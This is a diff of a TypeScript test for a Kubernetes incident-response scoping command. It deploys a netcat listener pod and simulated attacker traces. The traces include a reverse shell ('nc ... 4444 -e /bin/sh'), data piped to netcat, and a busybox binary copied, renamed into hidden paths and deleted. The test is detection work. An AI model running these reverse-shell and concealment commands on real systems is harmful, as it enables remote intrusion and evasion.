@@ -46,9 +46,7 @@ describe('kubectl ir scope', function () {
       image: imageOf('toolbox'),
       command: ['sh', '-c', command],
     });
-    await apply(namespace, [
-      pod('listener', { ...run('while :; do nc -l -k -p 4444 -e sleep 3600; done'), node: second }),
-    ]);
+    await apply(namespace, [pod('listener', { ...run('nc -ll -p 4444 -e sleep 3600'), node: second })]);
     await untilReady(namespace);
     const listener = await kubectl([
       'get',
@@ -63,8 +61,8 @@ describe('kubectl ir scope', function () {
     const suspect = `${make} cp /tmp/busybox-x /tmp/busybox-left; chmod +x /tmp/busybox-left; /tmp/busybox-x sleep 3600 & sleep 0.5; rm /tmp/busybox-x; nc ${listener} 4444 -e /bin/sh & ${still}`;
     const traces: Readonly<Record<string, string>> = {
       'pod-02': `sleep 3600 | nc ${listener} 4444 & ${still}`,
-      'pod-05': `${make} mv /tmp/busybox-x /dev/shm/busybox-y; /dev/shm/busybox-y sleep 3600 & ${still}`,
-      'pod-12': `${make} mv /tmp/busybox-x /var/tmp/notes; chmod -x /var/tmp/notes; ${still}`,
+      'pod-05': `${make} mkdir -p /opt; mv /tmp/busybox-x /opt/busybox-y; /opt/busybox-y sleep 3600 & ${still}`,
+      'pod-12': `${make} mkdir -p /var/tmp; mv /tmp/busybox-x /var/tmp/notes; chmod -x /var/tmp/notes; ${still}`,
     };
     const names = Array.from({ length: 12 }, (_, index) => `pod-${String(index + 1).padStart(2, '0')}`);
     await apply(namespace, [
